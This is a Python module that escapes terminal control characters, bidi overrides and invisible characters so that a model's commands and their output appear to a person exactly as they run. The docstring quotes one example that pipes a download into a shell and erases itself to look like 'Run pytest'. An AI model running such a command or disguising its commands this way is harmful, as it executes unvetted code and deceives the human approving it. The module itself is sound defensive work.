"""Text as a person sees it on a terminal: what is shown is what runs.

A model's command, a step name or a command's output may hold characters a terminal acts
on instead of showing: an escape sequence that erases the line (`\\x1b[2K`), a carriage
return that starts it again, a bidi override that reverses it, a lone surrogate no encoder
can write. `visible` writes each of them as its Python escape (`\\x1b`, `\\r`, `\\u202e`),
so `curl x | sh #\\x1b[2K\\rRun pytest` cannot pass for `Run pytest`.
"""

from __future__ import annotations

import re

# C0 controls but tab and newline, DEL, C1 controls, the bidi marks, embeddings, overrides
# and isolates (U+061C, U+200E-200F, U+202A-202E, U+2066-2069), the characters that show as
# nothing or break a line where no newline is (U+200B zero width space, U+2028-2029 line and
# paragraph separators, U+2060-2064 word joiner and invisible operators, U+FEFF), and the
# surrogates (never valid alone in text). U+200C-200D stay: scripts and emoji join with them.
_UNSEEN = "\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff"
_HIDDEN = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{_UNSEEN}\ud800-\udfff]")
_HIDDEN_IN_A_LINE = re.compile(f"[\x00-\x1f\x7f-\x9f{_UNSEEN}\ud800-\udfff]")
_NAMED = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _escape(found: re.Match[str]) -> str:
    char = found.group()
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def visible(text: str, one_line: bool = False) -> str:
    """`text` with every character a terminal would act on written as its escape.

    Newlines and tabs stay, unless `one_line` (a question, which must not be pushed off
    the screen or split by the text it quotes).
    """
    return (_HIDDEN_IN_A_LINE if one_line else _HIDDEN).sub(_escape, text)


# What `json.dumps(..., ensure_ascii=False)` leaves raw that a terminal acts on, hides or
# cannot write: DEL, C1 controls, the unseen characters above and surrogates (it escapes C0).
_RAW_IN_JSON = re.compile(f"[\x7f-\x9f{_UNSEEN}\ud800-\udfff]")


def visible_json(text: str) -> str:
    """JSON text with those characters as `\\uXXXX` escapes: the same document to a parser,
    nothing a terminal acts on to a person."""
    return _RAW_IN_JSON.sub(lambda found: f"\\u{ord(found.group()):04x}", text)
